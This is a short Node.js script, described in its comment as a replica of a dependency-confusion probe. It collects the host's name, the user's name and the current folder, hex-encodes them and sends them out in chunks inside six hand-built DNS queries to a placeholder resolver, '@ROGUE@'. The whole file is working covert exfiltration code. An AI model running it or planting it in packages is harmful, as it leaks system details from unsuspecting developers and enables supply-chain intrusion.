// Replica of a dependency-confusion probe: host, user and folder in six queries to a resolver of its own.
const dgram = require('dgram'), os = require('os')
const hex = Buffer.from([os.hostname(), os.userInfo().username, process.cwd()].join('|').padEnd(120, '.')).toString('hex')
const labels = words => Buffer.concat([...words.map(word => Buffer.concat([Buffer.from([word.length]), Buffer.from(word)])), Buffer.from([0, 0, 1, 0, 1])])
for (let part = 0; part < 6; part++) {
  const head = Buffer.from([0, part, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0])
  const query = Buffer.concat([head, labels([hex.slice(part * 40, part * 40 + 40), 'part' + part, 'name', 'test'])])
  const socket = dgram.createSocket('udp4')
  socket.on('error', error => console.log('refused', error.code))
  socket.send(query, part < 5 ? 53 : 5353, '@ROGUE@', error => { if (error) console.log('refused', error.code); socket.close() })
}
